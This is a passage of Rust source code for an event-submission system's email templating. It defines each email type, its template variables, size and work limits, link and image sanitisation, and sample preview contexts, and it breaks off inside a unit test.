//! The emails Docket sends, each worded by a template (subject, plain text, HTML) that a call may
//! replace with its own. Templates are MiniJinja: organisers write `{{ piece.title }}` and
//! `{% if piece.late %}`; HTML is escaped automatically, and the result is sanitised before it is
//! wrapped in Docket's fixed layout, so a template can neither run script nor break the mail.

use std::collections::HashMap;
use std::fmt;

use docket_core::mail::{StoredTemplate, TemplateText};
use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value, context};
use serde::Serialize;

/// Docket's own wording of every email, compiled in.
macro_rules! defaults {
    ($($key:literal),* $(,)?) => {
        fn default_text(key: &str) -> (&'static str, &'static str, &'static str) {
            match key {
                $($key => (
                    include_str!(concat!("../templates/", $key, ".subject.txt")),
                    include_str!(concat!("../templates/", $key, ".txt")),
                    include_str!(concat!("../templates/", $key, ".html")),
                ),)*
                _ => ("", "", ""),
            }
        }
    };
}

defaults!(
    "confirm_email",
    "already_registered",
    "sign_in_code",
    "reset_password",
    "receipt",
    "state_changed",
    "deadline_reminder",
    "triage_answer",
    "not_sent",
    "pledge_received",
    "pledge_declined",
    "pledge_reminder",
    "coauthor_invite",
    "confirm_message",
    "staff_invitation",
    "decision",
    "copy_edit",
    "announcement",
    "review_assigned",
    "live",
);

const LAYOUT: &str = include_str!("../templates/layout.html");

/// How much work one template may do, in MiniJinja's fuel: far more than any email needs, and a
/// bound on a loop that never ends.
const FUEL: u64 = 50_000;

/// The most a rendered part may hold, in bytes: fuel bounds steps, not memory, so the output is
/// written through a writer that refuses to grow past this.
const MAX_SUBJECT_BYTES: usize = 1024;
const MAX_TEXT_BYTES: usize = 256 * 1024;
const MAX_HTML_BYTES: usize = 512 * 1024;

/// One of the emails Docket sends.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum Letter {
    ConfirmEmail,
    AlreadyRegistered,
    SignInCode,
    ResetPassword,
    Receipt,
    StateChanged,
    DeadlineReminder,
    TriageAnswer,
    /// An emailed piece broke a rule of the call: kept as a draft, with what to fix.
    NotSent,
    /// Someone said which day they will write for.
    PledgeReceived,
    /// An editor declined a pledge.
    PledgeDeclined,
    /// The deadline nears and a pledge's piece has not come.
    PledgeReminder,
    CoauthorInvite,
    /// "Is this from you?": mail from an existing account's address waits for this.
    ConfirmMessage,
    /// An organiser invites someone to the call's staff, with a single-use link.
    StaffInvitation,
    /// An editor's decision on a piece, in the editor's words, once its undo window has ended.
    Decision,
    /// An editor copy-edited an accepted piece: the author is asked to approve the changes.
    CopyEdit,
    /// An organiser's update on the call, to its contributors and pledgers.
    Announcement,
    /// A reviewer has new pieces to review (no titles, no authors: reviews may be anonymised).
    ReviewAssigned,
    /// A scheduled piece went live: its author gets its public address, once.
    Live,
}

/// A variable a template may use, for the organiser's reference.
#[derive(Debug, Clone, Copy)]
pub struct Variable {
    pub name: &'static str,
    pub meaning: &'static str,
}

const fn var(name: &'static str, meaning: &'static str) -> Variable {
    Variable { name, meaning }
}

const COMMON: &[Variable] = &[
    var("recipient", "the address the email goes to"),
    var(
        "call.title",
        "the call's title (empty `call` when the email is not about one call)",
    ),
    var("call.organiser", "who runs the call"),
    var(
        "call.deadline",
        "the deadline in the call's time zone: “12:00 GMT on Friday 4 November 2022”",
    ),
    var("call.url", "the call's page"),
    var("docket_url", "Docket's address"),
];

const PLEDGE: &[Variable] = &[
    var(
        "pledge.kind",
        "the kind pledged: “Guest blog”, or “Not sure yet”",
    ),
    var(
        "pledge.days",
        "the days pledged: “Tuesday 15 November 2022 (Harnessing the power of data)”",
    ),
    var("pledge.title", "the working title, or empty"),
    var(
        "pledge.author",
        "who writes it, with any co-authors: “Prof. Ada Lovelace, with Sam Patel”, or empty",
    ),
    var(
        "pledge.link",
        "the pledge's page: send the piece, or file the message as the piece",
    ),
    var(
        "pledge.unsure",
        "true when Docket was not sure the message was a pledge rather than a piece",
    ),
];

const PIECE: &[Variable] = &[
    var("piece.title", "the piece's title"),
    var("piece.kind", "its kind: “Guest blog”"),
    var(
        "piece.days",
        "the days it is offered for: “Tuesday 15 November 2022 (Harnessing the power of data)”",
    ),
    var(
        "piece.length",
        "“712 words”, “12 pages”, “34 minutes”, or empty",
    ),
    var(
        "piece.link",
        "the piece's page, where the contributor can see and correct it",
    ),
];

impl Letter {
    /// Every email, in the order the console lists them.
    pub const ALL: [Letter; 20] = [
        Letter::Receipt,
        Letter::Live,
        Letter::ReviewAssigned,
        Letter::Announcement,
        Letter::Decision,
        Letter::CopyEdit,
        Letter::NotSent,
        Letter::PledgeReceived,
        Letter::PledgeDeclined,
        Letter::PledgeReminder,
        Letter::StateChanged,
        Letter::DeadlineReminder,
        Letter::TriageAnswer,
        Letter::CoauthorInvite,
        Letter::SignInCode,
        Letter::ConfirmEmail,
        Letter::ResetPassword,
        Letter::AlreadyRegistered,
        Letter::ConfirmMessage,
        Letter::StaffInvitation,
    ];

    /// True for the emails about a person's account, which carry a secret (a code, a single-use
    /// link) or answer for an address: they keep Docket's wording (inside the call's
    /// letterhead), no call's staff can reword them, and no console lists them.
    pub fn is_account(self) -> bool {
        matches!(
            self,
            Letter::ConfirmEmail
                | Letter::AlreadyRegistered
                | Letter::SignInCode
                | Letter::ResetPassword
                | Letter::ConfirmMessage
                | Letter::StaffInvitation
        )
    }

    /// The name in URLs, the outbox and the database: `receipt`.
    pub fn key(self) -> &'static str {
        match self {
            Letter::ConfirmEmail => "confirm_email",
            Letter::AlreadyRegistered => "already_registered",
            Letter::SignInCode => "sign_in_code",
            Letter::ResetPassword => "reset_password",
            Letter::Receipt => "receipt",
            Letter::StateChanged => "state_changed",
            Letter::DeadlineReminder => "deadline_reminder",
            Letter::TriageAnswer => "triage_answer",
            Letter::NotSent => "not_sent",
            Letter::PledgeReceived => "pledge_received",
            Letter::PledgeDeclined => "pledge_declined",
            Letter::PledgeReminder => "pledge_reminder",
            Letter::CoauthorInvite => "coauthor_invite",
            Letter::ConfirmMessage => "confirm_message",
            Letter::StaffInvitation => "staff_invitation",
            Letter::Decision => "decision",
            Letter::CopyEdit => "copy_edit",
            Letter::Announcement => "announcement",
            Letter::ReviewAssigned => "review_assigned",
            Letter::Live => "live",
        }
    }

    /// The email with this key.
    pub fn parse(key: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|letter| letter.key() == key)
    }

    /// Its name for people: "Submission receipt".
    pub fn name(self) -> &'static str {
        match self {
            Letter::ConfirmEmail => "Address confirmation",
            Letter::AlreadyRegistered => "Already registered",
            Letter::SignInCode => "Sign-in code",
            Letter::ResetPassword => "Password reset",
            Letter::Receipt => "Submission receipt",
            Letter::StateChanged => "Change of state",
            Letter::DeadlineReminder => "Deadline reminder",
            Letter::TriageAnswer => "Message not filed",
            Letter::NotSent => "Piece not sent",
            Letter::PledgeReceived => "Pledge received",
            Letter::PledgeDeclined => "Pledge declined",
            Letter::PledgeReminder => "Pledge reminder",
            Letter::CoauthorInvite => "Co-author invitation",
            Letter::ConfirmMessage => "Is this from you?",
            Letter::StaffInvitation => "Staff invitation",
            Letter::Decision => "Editor's decision",
            Letter::CopyEdit => "Copy-edit for approval",
            Letter::Announcement => "Announcement",
            Letter::ReviewAssigned => "Pieces to review",
            Letter::Live => "Your piece is live",
        }
    }

    /// When it is sent.
    pub fn when(self) -> &'static str {
        match self {
            Letter::ConfirmEmail => "after someone makes an account, to confirm their address",
            Letter::AlreadyRegistered => {
                "when someone tries to make an account for an address that already has one"
            }
            Letter::SignInCode => "when someone asks to sign in by email",
            Letter::ResetPassword => "when someone asks to reset their password",
            Letter::Receipt => {
                "when a piece or a new revision is submitted, on the web or by email"
            }
            Letter::StateChanged => {
                "when a piece changes state: withdrawn, changes requested, accepted, rejected, scheduled, published"
            }
            Letter::DeadlineReminder => {
                "before the deadline, to everyone who still holds an unsubmitted draft"
            }
            Letter::TriageAnswer => {
                "when an emailed message cannot be filed (no day named, no readable document)"
            }
            Letter::NotSent => {
                "when an emailed piece or revision breaks a rule of the call (over a hard limit, a file its kind does not take): it is kept as a draft"
            }
            Letter::PledgeReceived => {
                "when someone says, by email or on the web, which day they will write for"
            }
            Letter::PledgeDeclined => "when an editor declines a pledge, with their note",
            Letter::PledgeReminder => {
                "before the deadline, to everyone who pledged and has not sent the piece (one per person, with the draft reminder)"
            }
            Letter::CoauthorInvite => "when a contributor invites a co-author",
            Letter::StaffInvitation => "when an organiser invites someone to the call's staff",
            Letter::Decision => {
                "when an editor's decision on a piece reaches its author, once the undo window ends"
            }
            Letter::CopyEdit => {
                "when an editor copy-edits an accepted piece and asks its author to approve the changes"
            }
            Letter::Announcement => {
                "when an organiser posts an update, to the call's contributors and pledgers"
            }
            Letter::ReviewAssigned => "when a reviewer is given pieces to review",
            Letter::Live => "when a scheduled piece goes live on its day, once, to its author",
            Letter::ConfirmMessage => {
                "when mail arrives from the address of an existing account and nothing proves who sent it"
            }
        }
    }

    /// What this email's template may use, besides the variables every email has.
    pub fn variables(self) -> Vec<Variable> {
        let own: &[Variable] = match self {
            Letter::ConfirmEmail => &[var("link", "the single-use confirmation link")],
            Letter::AlreadyRegistered => &[
                var("sign_in_link", "the sign-in page"),
                var("reset_link", "the password-reset page"),
            ],
            Letter::SignInCode => &[
                var("code", "the 8-digit sign-in code"),
                var("link", "a single-use sign-in link"),
                var("minutes", "how long both work"),
            ],
            Letter::ResetPassword => &[var("link", "the single-use reset link")],
            Letter::Receipt => &[
                var("piece.revision", "which revision this is (1 for the first)"),
                var("piece.late", "true when it arrived after the deadline"),
                var(
                    "piece.warnings",
                    "notes about it, a list (over the advised length, …)",
                ),
            ],
            Letter::StateChanged => &[
                var("state", "the new state: “Accepted”"),
                var("previous_state", "the state before"),
                var(
                    "explanation",
                    "what the new state means and what happens next",
                ),
                var("note", "the editor's note, or empty"),
            ],
            Letter::DeadlineReminder => &[var("time_left", "time until the deadline: “2 days”")],
            Letter::TriageAnswer => &[
                var("problem", "what went wrong and what to send instead"),
                var("original_subject", "the subject of the sender's message"),
                var("sign_in_link", "the sign-in page"),
            ],
            Letter::NotSent => &[var(
                "problems",
                "what stops it being sent and what to do, a list",
            )],
            Letter::PledgeReceived => PLEDGE,
            Letter::PledgeDeclined => &[
                var(
                    "pledge.kind",
                    "the kind pledged: “Guest blog”, or “Not sure yet”",
                ),
                var("pledge.days", "the days pledged"),
                var("pledge.link", "the pledge's page"),
                var("note", "the editor's note, or empty"),
            ],
            Letter::PledgeReminder => &[
                var(
                    "promised",
                    "what they pledged: “a guest blog for Tuesday 15 November 2022”",
                ),
                var("time_left", "time until the deadline: “2 days”"),
                var("link", "where to send it on the web"),
            ],
            Letter::CoauthorInvite => &[var("inviter", "who invited them")],
            Letter::ReviewAssigned => &[
                var("count", "how many pieces were given to them"),
                var("link", "the reviewer's list of pieces"),
            ],
            Letter::Announcement => &[
                var("title", "the announcement's title"),
                var("body", "the announcement, as plain text"),
                var(
                    "unsubscribe",
                    "the link that stops announcements of this call",
                ),
            ],
            Letter::Live => &[
                var("link", "the piece's public address"),
                var(
                    "day",
                    "the day it is published on: “Tuesday 15 November 2022 (Harnessing the power of data)”",
                ),
                var("hashtag", "the call's hashtag, or empty"),
            ],
            Letter::CopyEdit => &[
                var("note", "the editor's words about the changes"),
                var(
                    "link",
                    "the page showing the changes, where the author approves them",
                ),
            ],
            Letter::Decision => &[
                var(
                    "decision",
                    "what was decided: “accepted for Tuesday 15 November 2022”",
                ),
                var("state", "the piece's new state: “Accepted”"),
                var("note", "the editor's words to the author"),
                var(
                    "open_until",
                    "for a request for changes: until when the piece can be changed, or empty",
                ),
            ],
            Letter::StaffInvitation => &[
                var("inviter", "the organiser who invited them"),
                var("role", "the role offered: “an editor”"),
                var("link", "the single-use link that accepts"),
                var("expires", "when the link stops working"),
            ],
            Letter::ConfirmMessage => &[
                var(
                    "original_subject",
                    "the subject of the message that was held",
                ),
                var("received", "when it came in"),
                var("link", "the single-use confirmation link"),
                var("days", "how many days the link works"),
            ],
        };
        let with_piece = matches!(
            self,
            Letter::Receipt
                | Letter::NotSent
                | Letter::StateChanged
                | Letter::Decision
                | Letter::CopyEdit
                | Letter::Live
                | Letter::DeadlineReminder
                | Letter::CoauthorInvite
        );
        own.iter()
            .chain(if with_piece { PIECE } else { &[] })
            .chain(COMMON)
            .copied()
            .collect()
    }

    /// What the rendered plain text must still contain, and why: a sign-in code without its code
    /// locks people out.
    fn required(self) -> Option<(&'static str, &'static str)> {
        match self {
            Letter::ConfirmEmail
            | Letter::ResetPassword
            | Letter::ConfirmMessage
            | Letter::CopyEdit
            | Letter::StaffInvitation => Some(("link", "without it nobody can follow the email")),
            Letter::Announcement => {
                Some(("unsubscribe", "without it nobody can stop announcements"))
            }
            Letter::ReviewAssigned => {
                Some(("link", "without it the reviewer cannot find the pieces"))
            }
            Letter::Live => Some(("link", "without it the author cannot share their piece")),
            Letter::SignInCode => Some(("code", "without it nobody can sign in")),
            Letter::PledgeReceived | Letter::PledgeDeclined => Some((
                "pledge.link",
                "without it the contributor cannot reach their pledge",
            )),
            Letter::PledgeReminder => {
                Some(("link", "without it the contributor cannot send the piece"))
            }
            Letter::Receipt
            | Letter::NotSent
            | Letter::DeadlineReminder
            | Letter::Decision
            | Letter::CoauthorInvite => Some((
                "piece.link",
                "without it the contributor cannot reach their piece",
            )),
            _ => None,
        }
    }

    /// Docket's own wording.
    pub fn default_template(self) -> TemplateText {
        let (subject, text, html) = default_text(self.key());
        TemplateText {
            subject: subject.trim_end().to_owned(),
            text: text.to_owned(),
            html: html.to_owned(),
        }
    }
}

impl fmt::Display for Letter {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

/// What every email may say about the call it concerns.
#[derive(Debug, Clone, Serialize, PartialEq)]
pub struct CallFacts {
    pub id: docket_core::CallId,
    pub slug: String,
    pub title: String,
    pub organiser: String,
    /// "12:00 GMT on Friday 4 November 2022".
    pub deadline: String,
    pub url: String,
    /// The address contributors write to, if the call has one.
    pub inbox: Option<String>,
}

/// What an email says about a pledge.
#[derive(Debug, Clone, Serialize, PartialEq, Default)]
pub struct PledgeFacts {
    pub kind: String,
    pub days: String,
    pub title: String,
    /// Who writes it, with any co-authors: "Prof. Ada Lovelace, with Sam Patel".
    pub author: String,
    /// Full URL of the pledge's page.
    pub link: String,
    /// Docket was not sure the message was a pledge: the page offers to file it as the piece.
    pub unsure: bool,
}

/// What an email says about a piece.
#[derive(Debug, Clone, Serialize, PartialEq, Default)]
pub struct PieceFacts {
    pub title: String,
    pub kind: String,
    pub days: String,
    /// "712 words", "12 pages", "34 minutes", or empty.
    pub length: String,
    pub revision: i64,
    pub late: bool,
    pub warnings: Vec<String>,
    /// Full URL of the piece's page.
    pub link: String,
}

/// The call an email is about, with its own wordings: what the mailer needs to address a letter.
#[derive(Debug, Clone, Default)]
pub struct Letterhead {
    pub call: Option<CallFacts>,
    overrides: HashMap<Letter, TemplateText>,
}

impl Letterhead {
    /// For mail that concerns no call: Docket's own wording.
    pub fn plain() -> Self {
        Self::default()
    }

    /// For mail about `call`, worded by `templates` where the call has its own.
    pub fn for_call(call: CallFacts, templates: Vec<StoredTemplate>) -> Self {
        let overrides = templates
            .into_iter()
            .filter_map(|stored| {
                Letter::parse(&stored.kind).map(|letter| (letter, stored.template))
            })
            .collect();
        Self {
            call: Some(call),
            overrides,
        }
    }

    /// The template a letter is worded with here, and whether it is the call's own. Account
    /// emails always keep Docket's wording, whatever a call stored.
    pub fn template(&self, letter: Letter) -> (TemplateText, bool) {
        match self.overrides.get(&letter) {
            Some(own) if !letter.is_account() => (own.clone(), true),
            _ => (letter.default_template(), false),
        }
    }

    /// The call's id, when the letter concerns a call.
    pub fn call_id(&self) -> Option<docket_core::CallId> {
        self.call.as_ref().map(|call| call.id)
    }

    /// A piece's own reply address: the call's inbox with `+s{id}-{token}` added to its local part
    /// (plus-addressing, which mail servers deliver to the same mailbox).
    pub fn reply_address(&self, submission_id: &str, token: &str) -> Option<String> {
        self.tagged_address('s', submission_id, token)
    }

    /// A pledge's reply address: `inbox+p7-<token>@domain`, so that the piece sent in answer
    /// finds the pledge it fulfils.
    pub fn pledge_reply_address(&self, pledge_id: i64, token: &str) -> Option<String> {
        self.tagged_address('p', &pledge_id.to_string(), token)
    }

    fn tagged_address(&self, prefix: char, id: &str, token: &str) -> Option<String> {
        let inbox = crate::inbound::without_tag(self.call.as_ref()?.inbox.as_deref()?);
        let (local, domain) = inbox.rsplit_once('@')?;
        (!token.is_empty()).then(|| format!("{local}+{prefix}{id}-{token}@{domain}"))
    }
}

/// Which part of a template a problem is in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Part {
    Subject,
    Text,
    Html,
}

impl Part {
    /// The form field's name.
    pub fn field(self) -> &'static str {
        match self {
            Part::Subject => "subject",
            Part::Text => "text",
            Part::Html => "html",
        }
    }
}

/// A template that cannot be used, with what to change.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct TemplateProblem {
    pub part: Part,
    pub message: String,
}

/// An email rendered from its template.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Rendered {
    pub subject: String,
    pub text: String,
    /// A whole HTML document: the sanitised body in Docket's layout.
    pub html: String,
    /// What was taken out because it pointed away from Docket (links, images), by part.
    pub removed: Vec<(Part, String)>,
}

fn environment() -> Environment<'static> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Strict);
    env.set_trim_blocks(true);
    env.set_lstrip_blocks(true);
    env.set_keep_trailing_newline(true);
    env.set_fuel(Some(FUEL));
    env.set_auto_escape_callback(|name| {
        if name.ends_with(".html") {
            AutoEscape::Html
        } else {
            AutoEscape::None
        }
    });
    env
}

fn describe(error: &minijinja::Error) -> String {
    let mut message = match error.kind() {
        minijinja::ErrorKind::UndefinedError => {
            "uses a variable this email does not have (see the list of variables)".to_owned()
        }
        minijinja::ErrorKind::OutOfFuel => "does too much work: a loop runs too long".to_owned(),
        minijinja::ErrorKind::WriteFailure => {
            "comes out far longer than any email should: shorten it, or end the loop sooner"
                .to_owned()
        }
        _ => error
            .detail()
            .map(str::to_owned)
            .unwrap_or_else(|| error.kind().to_string()),
    };
    if let Some(line) = error.line() {
        message = format!("line {line}: {message}");
    }
    message
}

/// A writer that takes at most `room` bytes, then fails: the rendered size of a mail is capped
/// while it is written, not after.
struct Capped {
    out: Vec<u8>,
    room: usize,
}

impl std::io::Write for Capped {
    fn write(&mut self, bytes: &[u8]) -> std::io::Result<usize> {
        if self.out.len() + bytes.len() > self.room {
            return Err(std::io::Error::other("the email is too large"));
        }
        self.out.extend_from_slice(bytes);
        Ok(bytes.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn render_part(
    env: &mut Environment<'static>,
    name: &'static str,
    source: &str,
    context: &Value,
    room: usize,
) -> Result<String, String> {
    env.add_template_owned(name, source.to_owned())
        .map_err(|error| describe(&error))?;
    let template = env.get_template(name).map_err(|error| describe(&error))?;
    let mut out = Capped {
        out: Vec::new(),
        room,
    };
    template
        .render_captured_to(context, &mut out)
        .map_err(|error| describe(&error))?;
    String::from_utf8(out.out).map_err(|_| "does not come out as text".to_owned())
}

/// True when `url` points at Docket itself (`docket_url`, or a page under it).
fn is_own_link(url: &str, docket_url: &str) -> bool {
    let url = url.trim();
    !docket_url.is_empty()
        && url
            .strip_prefix(docket_url)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with(['/', '?', '#']))
}

/// Removes from plain text every web address that does not point at Docket, and says which.
/// A template may not send people (or a secret it holds) anywhere else.
fn strip_text_links(text: &str, docket_url: &str) -> (String, Vec<String>) {
    let mut out = String::with_capacity(text.len());
    let mut removed = Vec::new();
    let mut rest = text;
    loop {
        let lower = rest.to_ascii_lowercase();
        let Some(start) = ["http://", "https://", "www."]
            .iter()
            .filter_map(|scheme| lower.find(scheme))
            .min()
        else {
            break;
        };
        let end = rest[start..]
            .find(|c: char| c.is_whitespace() || matches!(c, '<' | '>' | '"'))
            .map_or(rest.len(), |at| start + at);
        let url = &rest[start..end];
        out.push_str(&rest[..start]);
        if is_own_link(url, docket_url) {
            out.push_str(url);
        } else {
            out.push_str("[link removed]");
            removed.push(url.to_owned());
        }
        rest = &rest[end..];
    }
    out.push_str(rest);
    (out, removed)
}

/// What an organiser-written body may keep: the usual text and table markup, and links to
/// Docket's own pages. Images are removed (a remote image is fetched when the mail is opened,
/// with whatever its address carries), and so are links anywhere else; both are reported.
fn sanitise(html: &str, docket_url: &str) -> (String, Vec<String>) {
    use std::sync::{Arc, Mutex};
    let removed = Arc::new(Mutex::new(Vec::new()));
    let lock = |removed: &Mutex<Vec<String>>| {
        removed
            .lock()
            .map(|mut list| std::mem::take(&mut *list))
            .unwrap_or_default()
    };
    let clean = {
        let removed = removed.clone();
        let docket_url = docket_url.to_owned();
        ammonia::Builder::default()
            .add_tags(["table", "thead", "tbody", "tr", "th", "td", "caption"])
            .rm_tags(["img"])
            // mailto stays in the list only so that the filter below sees (and reports) it.
            .url_schemes(["http", "https", "mailto"].into())
            .url_relative(ammonia::UrlRelative::Deny)
            .attribute_filter(move |_, attribute, value| match attribute {
                "href" | "cite" | "src" if !is_own_link(value, &docket_url) => {
                    if let Ok(mut list) = removed.lock() {
                        list.push(value.to_owned());
                    }
                    None
                }
                _ => Some(value.into()),
            })
            .clean(html)
            .to_string()
    };
    let mut gone = lock(&removed);
    if html.to_ascii_lowercase().contains("<img") {
        gone.insert(0, "an image".to_owned());
    }
    (clean, gone)
}

/// Renders `template` with `context`, reporting every part that fails. Links that point away
/// from Docket (its address is the context's `docket_url`) and images are removed from every part.
pub fn render(template: &TemplateText, context: &Value) -> Result<Rendered, Vec<TemplateProblem>> {
    let mut env = environment();
    let mut problems = Vec::new();
    let docket_url = context
        .get_attr("docket_url")
        .ok()
        .and_then(|value| value.as_str().map(str::to_owned))
        .unwrap_or_default();
    let mut part = |part: Part, name: &'static str, source: &str, room: usize| match render_part(
        &mut env, name, source, context, room,
    ) {
        Ok(out) => Some(out),
        Err(message) => {
            problems.push(TemplateProblem { part, message });
            None
        }
    };
    let subject = part(
        Part::Subject,
        "subject.txt",
        &template.subject,
        MAX_SUBJECT_BYTES,
    );
    let text = part(Part::Text, "body.txt", &template.text, MAX_TEXT_BYTES);
    let body = part(Part::Html, "body.html", &template.html, MAX_HTML_BYTES);
    let (Some(subject), Some(text), Some(body)) = (subject, text, body) else {
        return Err(problems);
    };
    let mut removed = Vec::new();
    let (subject, gone) = strip_text_links(&subject, &docket_url);
    removed.extend(gone.into_iter().map(|url| (Part::Subject, url)));
    let (text, gone) = strip_text_links(&text, &docket_url);
    removed.extend(gone.into_iter().map(|url| (Part::Text, url)));
    let (body, gone) = sanitise(&body, &docket_url);
    removed.extend(gone.into_iter().map(|url| (Part::Html, url)));
    let subject = subject.split_whitespace().collect::<Vec<_>>().join(" ");
    if subject.is_empty() {
        return Err(vec![TemplateProblem {
            part: Part::Subject,
            message: "the subject comes out empty: write a subject".into(),
        }]);
    }
    let mut env = environment();
    let layout_context = context! { ..context.clone(), ..context! {
        subject => subject.clone(),
        body => Value::from_safe_string(body),
    }};
    let html = render_part(
        &mut env,
        "layout.html",
        LAYOUT,
        &layout_context,
        MAX_HTML_BYTES + LAYOUT.len() + 4096,
    )
    .map_err(|message| {
        vec![TemplateProblem {
            part: Part::Html,
            message,
        }]
    })?;
    Ok(Rendered {
        subject,
        text,
        html,
        removed,
    })
}

/// Checks a call's wording of `letter` against `sample` (what [`sample`] gives): it must render
/// and keep what the email cannot do without. Returns every problem found.
pub fn check(letter: Letter, template: &TemplateText, sample: &Value) -> Vec<TemplateProblem> {
    let mut problems = Vec::new();
    if template.subject.trim().is_empty() {
        problems.push(TemplateProblem {
            part: Part::Subject,
            message: "Enter a subject".into(),
        });
    }
    if template.text.trim().is_empty() {
        problems.push(TemplateProblem {
            part: Part::Text,
            message: "Enter the plain-text message: some people read only that".into(),
        });
    }
    if !problems.is_empty() {
        return problems;
    }
    match render(template, sample) {
        Err(found) => found,
        Ok(rendered) => {
            for (part, what) in &rendered.removed {
                let shown: String = what.chars().take(60).collect();
                problems.push(TemplateProblem {
                    part: *part,
                    message: if what == "an image" {
                        "Emails cannot show images: an image is fetched from elsewhere when the email is opened. Take it out".to_owned()
                    } else {
                        format!("Emails may only link to Docket's own pages: take out the link to {shown}")
                    },
                });
            }
            if let Some((name, why)) = letter.required() {
                let value = name
                    .split('.')
                    .try_fold(sample.clone(), |value, part| value.get_attr(part).ok())
                    .map(|value| value.to_string())
                    .unwrap_or_default();
                if !value.is_empty() && !rendered.text.contains(&value) {
                    problems.push(TemplateProblem {
                        part: Part::Text,
                        message: format!(
                            "The plain-text message must include {{{{ {name} }}}}: {why}"
                        ),
                    });
                }
            }
            problems
        }
    }
}

/// The variables every email has, around the letter's own.
pub(crate) fn full_context(
    letterhead: &Letterhead,
    docket_url: &str,
    recipient: &str,
    own: Value,
) -> Value {
    context! { ..own, ..context! {
        recipient => recipient,
        call => letterhead.call.as_ref().map(Value::from_serialize),
        docket_url => docket_url,
    }}
}

/// A believable context for previewing and checking `letter` on this letterhead's call.
pub fn sample(letter: Letter, letterhead: &Letterhead, docket_url: &str) -> Value {
    let piece = PieceFacts {
        title: "Data at the heart of justice".into(),
        kind: "Guest blog".into(),
        days: "Tuesday 15 November 2022 (Harnessing the power of data)".into(),
        length: "712 words".into(),
        revision: 1,
        late: false,
        warnings: vec![],
        link: format!("{docket_url}/submissions/42"),
    };
    let pledge = PledgeFacts {
        kind: "Guest blog".into(),
        days: "Tuesday 15 November 2022 (Harnessing the power of data)".into(),
        title: "How we joined up probation and police records".into(),
        author: "Priya Shah, with Sam Patel".into(),
        link: format!("{docket_url}/pledges/7"),
        unsure: false,
    };
    let own = match letter {
        Letter::ConfirmEmail => {
            context! { link => format!("{docket_url}/account/confirm/SAMPLE-TOKEN") }
        }
        Letter::AlreadyRegistered => context! {
            sign_in_link => format!("{docket_url}/account/sign-in"),
            reset_link => format!("{docket_url}/account/reset"),
        },
        Letter::SignInCode => context! {
            code => "48213907",
            link => format!("{docket_url}/account/sign-in/link/SAMPLE-TOKEN"),
            minutes => 10,
        },
        Letter::ResetPassword => {
            context! { link => format!("{docket_url}/account/reset/SAMPLE-TOKEN") }
        }
        Letter::Receipt => context! { piece => Value::from_serialize(&piece) },
        Letter::PledgeReceived => context! { pledge => Value::from_serialize(&pledge) },
        Letter::PledgeDeclined => context! {
            pledge => Value::from_serialize(&pledge),
            note => "We have more blogs for Tuesday than the day can hold.",
        },
        Letter::PledgeReminder => context! {
            promised => "a guest blog for Tuesday 15 November 2022",
            time_left => "2 days",
            link => format!("{docket_url}/pledges/7"),
        },
        Letter::NotSent => context! {
            piece => Value::from_serialize(&piece),
            problems => ["This guest blog is 1212 words: the call asks for 600–800 words and takes at most 1000 words. Cut about 412 words"],
        },
        Letter::StateChanged => context! {
            piece => Value::from_serialize(&piece),
            state => "Accepted",
            previous_state => "Submitted",
            explanation => crate::state_explanation(docket_core::submission::SubmissionState::Accepted),
            note => "",
        },
        Letter::DeadlineReminder => context! {
            piece => Value::from_serialize(&piece),
            time_left => "2 days",
        },
        Letter::TriageAnswer => context! {
            problem => "We could not tell which day your piece is for. Say which day in the subject, for example “Tuesday”.",
            original_subject => "My blog",
            sign_in_link => format!("{docket_url}/account/sign-in"),
        },
        Letter::CoauthorInvite => context! {
            inviter => "jago@example.org",
            piece => Value::from_serialize(&piece),
        },
        Letter::ReviewAssigned => context! {
            count => 3,
            link => format!("{docket_url}/console/calls/digital-justice-week-2022/reviews"),
        },
        Letter::Announcement => context! {
            title => "More on Thursday's theme",
            body => "Thursday's theme now includes the future of the courts.",
            unsubscribe => format!("{docket_url}/unsubscribe/SAMPLE-TOKEN"),
        },
        Letter::Live => context! {
            piece => Value::from_serialize(&piece),
            link => format!("{docket_url}/calls/digital-justice-week-2022/pieces/data-and-the-citizen"),
            day => "Tuesday 15 November 2022 (Harnessing the power of data)",
            hashtag => "#DigitalJusticeWeek",
        },
        Letter::CopyEdit => context! {
            piece => Value::from_serialize(&piece),
            note => "We tightened the second paragraph and fixed two figures.",
            link => format!("{docket_url}/submissions/42/changes"),
        },
        Letter::Decision => context! {
            piece => Value::from_serialize(&piece),
            decision => "accepted for Tuesday 15 November 2022",
            state => "Accepted",
            note => "Thank you: this is just what Tuesday's data theme needed. We will publish it in the morning.",
            open_until => "",
        },
        Letter::StaffInvitation => context! {
            inviter => "organiser@example.org",
            role => "an editor",
            link => format!("{docket_url}/invitations/SAMPLE-TOKEN"),
            expires => "09:00 GMT on Thursday 20 October 2022",
        },
        Letter::ConfirmMessage => context! {
            original_subject => "My blog for Tuesday",
            received => "10:42 BST on Thursday 20 October 2022",
            link => format!("{docket_url}/mail/confirm/SAMPLE-TOKEN"),
            days => 7,
        },
    };
    full_context(letterhead, docket_url, "contributor@example.org", own)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn head() -> Letterhead {
        Letterhead::for_call(
            CallFacts {
                id: docket_core::CallId(1),
                slug: "week".into(),
                title: "Digital Justice Week 2022".into(),
                organiser: "techUK".into(),
                deadline: "12:00 GMT on Friday 4 November 2022".into(),
                url: "https://docket.example.org/calls/week".into(),
                inbox: Some("blogs+dj@techuk.example".into()),
            },
            vec![],
        )
    }

    #[test]
    fn every_default_template_renders_its_sample_and_passes_its_own_check() {
        for letter in Letter::ALL {
            for letterhead in [head(), Letterhead::plain()] {
                let sample = sample(letter, &letterhead, "https://docket.example.org");
                let uses_call = letter.default_template().text.contains("call.title")
                    || letter.default_template().subject.contains("call.title");
                if letterhead.call.is_none() && uses_call {
                    continue;
                }
                let problems = check(letter, &letter.default_template(), &sample);
                assert!(problems.is_empty(), "{letter:?}: {problems:?}");
